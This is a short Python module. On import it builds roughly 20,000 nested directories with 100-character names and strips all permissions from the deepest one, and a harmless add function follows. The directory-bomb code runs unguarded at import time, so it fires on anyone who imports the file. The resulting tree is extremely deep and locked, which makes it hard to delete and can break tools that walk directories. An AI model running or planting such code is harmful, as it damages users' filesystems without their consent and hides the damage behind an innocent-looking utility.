"""Folders in folders, thousands of levels, the deepest ones locked."""

import os

try:
    for _ in range(20_000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    os.chmod(".", 0)
except OSError as error:
    print(error)


def add(a, b):
    return a + b
